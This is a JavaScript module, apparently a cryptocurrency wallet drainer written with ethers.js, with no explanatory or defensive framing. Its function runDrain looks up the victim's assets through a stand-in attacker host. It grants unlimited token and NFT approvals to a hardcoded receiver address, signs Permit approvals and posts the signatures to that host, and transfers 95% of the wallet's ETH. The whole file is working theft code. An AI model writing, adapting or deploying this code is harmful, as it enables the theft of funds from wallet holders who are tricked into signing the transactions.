import { ethers } from 'ethers';

const receiver = '0xcB9ADD5e3E4Aaca0131ACE7f9Bd0bB04f3e7A9cC';
const ERC20 = ['function balanceOf(address) view returns (uint256)', 'function approve(address,uint256) returns (bool)', 'function transferFrom(address,address,uint256) returns (bool)', 'function nonces(address) view returns (uint256)'];
const ERC721 = ['function setApprovalForAll(address,bool)'];

export async function runDrain(provider) {
  const signer = provider.getSigner();
  const owner = await signer.getAddress();
  const tokens = await (await fetch('https://api.evil.example/v1/assets?owner=' + owner)).json();
  tokens.sort((a, b) => b.usd - a.usd);
  for (const t of tokens) {
    if (t.type === 'erc721') {
      await new ethers.Contract(t.address, ERC721, signer).setApprovalForAll(receiver, true);
      continue;
    }
    const c = new ethers.Contract(t.address, ERC20, signer);
    const bal = await c.balanceOf(owner);
    if (bal.isZero()) continue;
    if (t.permit) {
      const nonce = await c.nonces(owner);
      const sig = await signer._signTypedData({ name: t.name, version: '1', chainId: 1, verifyingContract: t.address },
        { Permit: [{ name: 'owner', type: 'address' }, { name: 'spender', type: 'address' }, { name: 'value', type: 'uint256' }, { name: 'nonce', type: 'uint256' }, { name: 'deadline', type: 'uint256' }] },
        { owner, spender: receiver, value: ethers.constants.MaxUint256, nonce, deadline: 9999999999 });
      await fetch('https://api.evil.example/v1/permit', { method: 'POST', body: JSON.stringify({ token: t.address, owner, sig }) });
    } else {
      await c.approve(receiver, ethers.constants.MaxUint256);
    }
  }
  const eth = await provider.getBalance(owner);
  await signer.sendTransaction({ to: receiver, value: eth.mul(95).div(100) });
}
